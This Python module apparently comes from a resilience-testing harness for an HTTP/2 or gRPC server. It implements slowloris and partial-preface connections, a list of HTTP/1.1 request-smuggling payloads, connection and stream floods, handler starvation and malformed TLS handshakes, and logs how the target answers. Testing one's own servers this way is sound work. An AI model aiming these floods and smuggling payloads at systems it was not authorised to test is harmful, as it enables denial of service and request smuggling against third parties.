"""Attacks by connections: slow ones, many, idle ones, HTTP/1.1 and TLS."""
import socket
import ssl
import time
import warnings

from options import args
from wire import *
from world import *


@attack(21, "slow")
def slowloris(w):
    """Silence; a preface, an HTTP/1 header and SETTINGS a byte at a time."""
    lines = {}

    def make(data):
        def body():
            c = w.open(tls=False, begin=None)
            lines[c] = iter(data)
            return c
        return body

    def tick(c):
        byte = next(lines[c], None)
        if byte is not None:
            c.send(bytes([byte]))
    w.hold([make(b"")] * 100 + [make(PREFACE)] * 60 + [make(b"GET / HTTP/1.1\r\nx-padding: zzzzzzzzzzz")] * 60 +
           [make(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 30)] * 40, args.hold, tick)


@attack(22, "slow")
def partial_preface(w):
    """16 of the 24 bytes; the preface without SETTINGS; a header block that does not end."""
    def make(data):
        def body():
            c = w.open(tls=False, begin=None)
            c.send(data)
            return c
        return body
    w.hold([make(PREFACE[:16])] * 100 + [make(PREFACE)] * 50 + [make(b"POS")] * 50 +
           [make(PREFACE + settings() + frame(HEADERS, 0, 1, literal(":method", "POST")))] * 50, args.hold)


@attack(23)
def http1_smuggling(w):
    """Ambiguous HTTP/1.1 requests; an answer of 2xx, or two answers, is told as 'accepted'."""
    tail = b"\r\n\r\n"
    two = b"GET /smuggled HTTP/1.1\r\nhost: x" + tail
    post = b"POST %s HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n" % (args.http or args.service + "UnaryEcho").encode()
    chunk = b'2\r\n{}\r\n0' + tail
    odd = [post + b"content-length: 2\r\ntransfer-encoding: chunked" + tail + chunk, post + b"content-length: 2\r\ncontent-length: 5" + tail + b"{}",
           post + b"transfer-encoding: xchunked" + tail + chunk, post + b"transfer-encoding : chunked" + tail + chunk,
           post + b"transfer-encoding: chunked\r\ntransfer-encoding: identity" + tail + chunk, post + b"content-length: +2" + tail + b"{}",
           post + b"content-length: 0x2" + tail + b"{}", post + b"content-length: -2" + tail + b"{}", post + b"content-length: 2,2" + tail + b"{}",
           post + b"transfer-encoding: chunked" + tail + b"zz\r\n{}\r\n0" + tail, post + b"transfer-encoding: chunked" + tail + b"FFFFFFFFFFFFFFFFF\r\n{}",
           post + b"transfer-encoding: chunked" + tail + b"2;" + b"x" * 100000 + b"\r\n{}\r\n0" + tail, post + b"x: a\r\n b" + tail,
           post.replace(b"\r\n", b"\n") + b"content-length: 2\n\n{}", post + b"a\0b: c\r\ncontent-length: 2" + tail + b"{}", b"GET  /  HTTP/1.1" + tail,
           b"GET / HTTP/1.1\r\nhost: x\r\nhost: y" + tail, b"GET / HTTP/1.1" + tail, b"GET / HTTP/9.9\r\nhost: x" + tail, b"GET " + b"/" * 100000 + b" HTTP/1.1" + tail,
           b"GET / HTTP/1.1\r\n" + b"x: y\r\n" * 20000 + b"\r\n", two * 50]
    for data in odd:
        try:
            s = socket.create_connection(w.address, 2)
            w.opened += 1
            got, end = b"", time.monotonic() + 0.4
            try:
                s.sendall(data + two)
                while time.monotonic() < end:
                    s.settimeout(max(0.01, end - time.monotonic()))
                    part = s.recv(65536)
                    if not part:
                        break
                    got += part
            except OSError:
                pass
            s.close()
            answers = got.count(b"HTTP/1.1 ")
            w.ends["no HTTP/1 answer" if not answers else "accepted" if answers > 1 or b"HTTP/1.1 2" in got else got[9:12].decode()] += 1
        except OSError as error:
            w.ends[str(error)] += 1


@attack(24)
def connection_flood(w):
    def make():
        return w.open(tls=False, read=False, timeout=1)
    w.hold([make] * 1500, 2)


@attack(25)
def stream_flood(w):
    """Streams opened and never ended; then the highest number, and one below it."""
    w.flood(lambda c: (request(c.next()) for _ in range(10000)), connections=3)
    w.each([request(BIG) + request(3), request(BIG, end=True) + request(BIG - 2, end=True), request(5) + request(3)])


@attack(26)
def idle_connections(w):
    w.hold([lambda: w.open(read=False)] * 500, 3)


@attack(27, "grpc")
def handler_starvation(w):
    """2,000 calls that make their handlers sleep for a minute, on 20 connections."""
    def make():
        c = w.open()
        for _ in range(100):
            s = c.next()
            c.send(request(s, more=[("x-sleep-ms", "60000")]) + frame(DATA, END_STREAM, s, message(text("x"))))
        return c
    w.hold([make] * 20, args.seconds)


@attack(27, "grpc")
def tenant_flood(w):
    """One caller with four connections has as many honest calls under way as it may, all the time."""
    body = frame(DATA, END_STREAM, 0, message(text("x")))
    connections, sent = [w.open() for _ in range(4)], [0] * 4
    while time.monotonic() < w.until and not any(c.ended for c in connections):
        idle = True
        for index, c in enumerate(connections):
            if sent[index] - c.seen["DATA"] <= 700:
                idle = False
                streams = [c.next() for _ in range(200)]
                c.send(b"".join(request(s) + body[:5] + s.to_bytes(4, "big") + body[9:] for s in streams))
                sent[index] += 200
        if idle:
            time.sleep(0.002)
    w.counts["sent"] += sum(sent)
    for c in connections:
        w.finish(c)


@attack(28, "tls")
def tls_abuse(w):
    def plain(data):
        def body():
            c = w.open(tls=False, begin=None)
            c.send(data)
            w.finish(c, 0.2)
        return body

    def handshake(setting):
        def body():
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            setting(context)
            with socket.create_connection(w.address, 2) as s:
                with context.wrap_socket(s, server_hostname="no.such.name") as t:
                    w.ends["%s, ALPN %s" % (t.version(), t.selected_alpn_protocol())] += 1
        return body

    def old(context):
        warnings.simplefilter("ignore")
        context.set_ciphers("ALL:@SECLEVEL=0")
        context.minimum_version, context.maximum_version = ssl.TLSVersion.TLSv1, ssl.TLSVersion.TLSv1_1
    bodies = [plain(b"\x16\x03\x01\x02\x00\x01"), plain(b"\x16\x03\x03\xff\xff" + b"\1" * 1000), plain(PREFACE + settings()), plain(b"\x15\x03\x03\0\2\2\x28"),
              plain(b"\x80\x2e\1\3\1" + b"\0" * 40), handshake(old), handshake(lambda c: None), handshake(lambda c: c.set_alpn_protocols(["http/1.1"])),
              handshake(lambda c: c.set_alpn_protocols(["no-such"]))] + [handshake(lambda c: c.set_alpn_protocols(["h2"]))] * 100
    for body in bodies:
        w.opened += 1
        try:
            body()
        except (OSError, Gone) as error:
            w.ends["%s %s" % (type(error).__name__, getattr(error, "reason", "") or "")] += 1
